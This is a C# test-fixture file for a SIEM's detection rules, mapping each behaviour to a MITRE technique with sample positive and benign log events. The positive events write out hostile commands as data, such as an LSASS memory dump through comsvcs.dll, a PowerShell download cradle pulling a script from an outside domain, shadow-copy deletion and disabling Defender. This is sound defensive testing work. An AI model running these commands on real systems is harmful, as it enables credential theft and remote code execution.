using Llama3Siem.Prompts.Events;
using Llama3Siem.Prompts.Tests.Events;
using static Llama3Siem.Prompts.Tests.TestEvents;

namespace Llama3Siem.Prompts.Tests;

/// <summary>
/// The events the built-in detection rules are judged on: one positive per behaviour, benign administration, and the
/// shipped samples. Windows events carry the channel their event id is logged to, as collected records do.
/// </summary>
internal static class DetectionCases
{
    public const string Encoded = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";

    public const string SysmonChannel = "Microsoft-Windows-Sysmon/Operational";
    public const string PowerShellChannel = "Microsoft-Windows-PowerShell/Operational";

    /// <summary>The sample files every line of which the rules are run on (cef and syslog lines are events too).</summary>
    public static readonly string[] SampleFiles =
        ["events.jsonl", "windows-raw.jsonl", "syslog-cef-wrapped.jsonl", "malformed.jsonl", "cef.log", "syslog.log"];

    /// <summary>The OTRF Security-Datasets exports beside the repository (/work/shared/data/samples), when present.</summary>
    public static readonly string[] OtrfFiles =
    [
        "psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json",
        "covenant_sharpsc_create_dcerpc_smb_svcctl_2020-08-06022635.json",
        "empire_psremoting_stager_2020-09-20170827.json",
        "ec2_proxy_s3_exfiltration_2020-09-14011940.json",
    ];

    /// <summary>A PowerShell 4104 script block as collectors write it: the text in ScriptBlockText and in the message.</summary>
    public static SecurityEvent ScriptBlock(string id, string script) =>
        Windows(id, "4104", message: "Creating Scriptblock text (1 of 1):\n" + script, fields: ("ScriptBlockText", script));


    /// <summary>
    /// The behaviours the built-in rules cover, each with the technique it shows: the hand-written rules of earlier
    /// versions, now Sigma rules named after them (or after them plus "-shape" where Sigma's logsources split one).
    /// </summary>
    public static readonly IReadOnlyDictionary<string, string> Behaviours = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        ["lsass-minidump-comsvcs"] = "T1003.001",
        ["lsass-process-access"] = "T1003.001",
        ["lsass-object-read"] = "T1003.001",
        ["powershell-encoded-command"] = "T1059.001",
        ["powershell-encoded-command-obfuscation"] = "T1027",
        ["powershell-download-cradle"] = "T1105",
        ["scheduled-task-created"] = "T1053.005",
        ["service-installed"] = "T1543.003",
        ["psexec-service"] = "T1569.002",
        ["admin-share-service-control"] = "T1021.002",
        ["admin-share-access"] = "T1021.002",
        ["wmi-process-create"] = "T1047",
        ["winrm-remote-session"] = "T1021.006",
        ["rdp-logon"] = "T1021.001",
        ["failed-logon-burst"] = "T1110",
        ["discovery-whoami"] = "T1033",
        ["discovery-accounts"] = "T1087.002",
        ["discovery-domain-trusts"] = "T1482",
        ["discovery-network-config"] = "T1016",
        ["discovery-system-info"] = "T1082",
        ["shadow-copy-deletion"] = "T1490",
        ["event-log-cleared"] = "T1070.001",
        ["local-account-created"] = "T1136.001",
        ["kerberoasting-rc4-ticket"] = "T1558.003",
        ["defender-disabled"] = "T1562.001",
        ["mass-file-encryption"] = "T1486",
        ["cloud-assumed-role-from-outside"] = "T1078.004",
        ["cloud-storage-object-read"] = "T1530",
        ["cloud-storage-discovery"] = "T1619",
        ["ids-command-and-control"] = "T1071.001",
        ["ids-exploit-public-facing"] = "T1190",
    };

    /// <summary>One event (or burst) each behaviour must be found in.</summary>
    public static List<SecurityEvent> PositiveEvents(string rule) => rule switch
    {
        "lsass-minidump-comsvcs" => [Windows("p", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 756 C:\Users\x\lsass.dmp full")],
        "lsass-process-access" => [Windows("p", "10", @"C:\Windows\System32\rundll32.exe", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1410")])],
        "lsass-object-read" => [Windows("p", "4663", @"C:\Windows\System32\rundll32.exe", fields: ("ObjectName", @"\Device\HarddiskVolume2\Windows\System32\lsass.exe"))],
        "powershell-encoded-command" or "powershell-encoded-command-obfuscation" =>
            [Windows("p", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell -noP -sta -w 1 -enc {Encoded}")],
        "powershell-download-cradle" => [ScriptBlock("p", "IEX (New-Object Net.WebClient).DownloadString('http://update-cdn-check.xyz/a.ps1')")],
        "scheduled-task-created" => [Windows("p", "1", @"C:\Windows\System32\schtasks.exe", @"schtasks /create /tn Updater /tr C:\ProgramData\u.exe /sc onlogon /ru SYSTEM")],
        "service-installed" => [Windows("p", "7045", fields: ("ServiceName", "Cyb3rWard0g"))],
        "psexec-service" => [Windows("p", "7045", fields: ("ServiceName", "PSEXESVC"))],
        "admin-share-service-control" => [Windows("p", "5145", fields: [("ShareName", @"\\*\IPC$"), ("RelativeTargetName", "svcctl")])],
        "admin-share-access" => [Windows("p", "5140", fields: ("ShareName", @"\\*\ADMIN$"))],
        "wmi-process-create" => [Windows("p", "1", @"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"")],
        "winrm-remote-session" => [Windows("p", "1", @"C:\Windows\System32\wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding")],
        "rdp-logon" => [Windows("p", "4624", fields: ("LogonType", "10"))],
        "failed-logon-burst" => Enumerable.Range(0, 6).Select(i => Windows($"p{i}", "4625", minute: i)).ToList(),
        "discovery-whoami" => [Windows("p", "1", @"C:\Windows\System32\whoami.exe", "whoami /priv")],
        "discovery-accounts" => [Windows("p", "1", @"C:\Windows\System32\net.exe", "net group \"Domain Admins\" /domain")],
        "discovery-domain-trusts" => [Windows("p", "1", @"C:\Windows\System32\nltest.exe", "nltest /domain_trusts")],
        "discovery-network-config" => [Windows("p", "1", @"C:\Windows\System32\ipconfig.exe", "ipconfig /all")],
        "discovery-system-info" => [Windows("p", "1", @"C:\Windows\System32\systeminfo.exe", "systeminfo")],
        "shadow-copy-deletion" => [Windows("p", "1", @"C:\Windows\System32\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")],
        "event-log-cleared" => [Windows("p", "1102")],
        "local-account-created" => [Windows("p", "1", @"C:\Windows\System32\net.exe", "net user svc_backup P@ssw0rd1 /add")],
        "kerberoasting-rc4-ticket" => [Windows("p", "4769", fields: [("TicketEncryptionType", "0x17"), ("ServiceName", "MSSQLSvc")])],
        "defender-disabled" => [ScriptBlock("p", "Set-MpPreference -DisableRealtimeMonitoring $true")],
        "mass-file-encryption" => Enumerable.Range(0, 30).Select(i => Windows($"p{i}", "11", fields: ("TargetFilename", $@"C:\Shares\Finance\q{i}.xlsx.locked"))).ToList(),
        "cloud-assumed-role-from-outside" => [Of(EventFormats.CloudTrail, "p", "ListBuckets", null,
            ("eventSource", "s3.amazonaws.com"), ("eventName", "ListBuckets"), ("userIdentity.type", "AssumedRole"),
            ("userIdentity.arn", "arn:aws:sts::123456789123:assumed-role/web-role/i-0abc"), ("userAgent", "aws-cli/2.15.0"),
            ("sourceIPAddress", "45.77.12.9")) with { SourceAddress = "45.77.12.9" }],
        "cloud-storage-object-read" => [Of(EventFormats.CloudTrail, "p", "GetObject", null, ("eventSource", "s3.amazonaws.com"), ("eventName", "GetObject"))],
        "cloud-storage-discovery" => [Of(EventFormats.CloudTrail, "p", "ListObjects", null, ("eventSource", "s3.amazonaws.com"), ("eventName", "ListObjects"))],
        "ids-command-and-control" => [Suricata("p", "ET MALWARE Cobalt Strike Beacon Observed", "A Network Trojan was detected")],
        "ids-exploit-public-facing" => [Suricata("p", "ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain")],
        _ => throw new ArgumentOutOfRangeException(nameof(rule), rule, "no positive case"),
    };

    /// <summary>Everyday administration no rule may fire on.</summary>
    public static List<SecurityEvent> Benign() =>
    [
        Windows("b1", "1", @"C:\Windows\System32\cmd.exe", "cmd.exe /c dir C:\\Users"),
        Windows("b2", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -File C:\\scripts\\backup.ps1"),
        Windows("b3", "4624", fields: ("LogonType", "2")),
        Windows("b4", "4625"),
        Windows("b5", "10", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1000")]),
        Windows("b6", "5140", fields: ("ShareName", @"\\*\IPC$")),
        Windows("b7", "1", @"C:\Windows\System32\sc.exe", "sc.exe query wuauserv"),
        Windows("b8", "4769", fields: [("TicketEncryptionType", "0x12"), ("ServiceName", "MSSQLSvc")]),
        Windows("b9", "11", fields: ("TargetFilename", @"C:\Users\alice\report.docx")),
        Windows("b9b", "104", fields: ("Channel", PowerShellChannel)),
        Of(EventFormats.CloudTrail, "b10", "DescribeInstances", null, ("eventSource", "ec2.amazonaws.com"), ("eventName", "DescribeInstances")),
        Suricata("b11", "ET INFO Observed DNS Query to .cloud TLD", "Misc activity"),
    ];

    /// <summary>Two rules of one technique on two events: Detect reports the technique once with both.</summary>
    public static List<SecurityEvent> SameTechniqueTwice() =>
    [
        Windows("x1", "1", @"C:\Windows\System32\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full"),
        Windows("x2", "10", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1FFFFF")]),
    ];

    /// <summary>A Suricata EVE alert with its signature and classification.</summary>
    public static SecurityEvent Suricata(string id, string signature, string category) =>
        Of(EventFormats.SuricataEve, id, "alert", signature,
            ("event_type", "alert"), ("alert.signature", signature), ("alert.category", category));

    /// <summary>Every event the parser accepts from the shipped samples, labelled file:line.</summary>
    public static IEnumerable<(string Label, SecurityEvent Event)> SampleEvents() =>
        SampleFiles.SelectMany(file => Parse(RepositoryFiles.Sample(file)));

    /// <summary>The OTRF exports' events, labelled file:line; empty where the shared folder is absent.</summary>
    public static IEnumerable<(string Label, SecurityEvent Event)> OtrfEvents() =>
        RepositoryFiles.SharedSamples() is { } folder ? OtrfFiles.SelectMany(file => Parse(Path.Combine(folder, file))) : [];

    private static IEnumerable<(string Label, SecurityEvent Event)> Parse(string path)
    {
        var parser = EventParsing.Parser();
        var lineNumber = 0;
        foreach (var line in RepositoryFiles.Lines(path))
        {
            lineNumber++;
            var result = parser.Parse(line);
            if (result.IsSuccess)
            {
                yield return ($"{Path.GetFileName(path)}:{lineNumber}", result.Event!);
            }
        }
    }
}
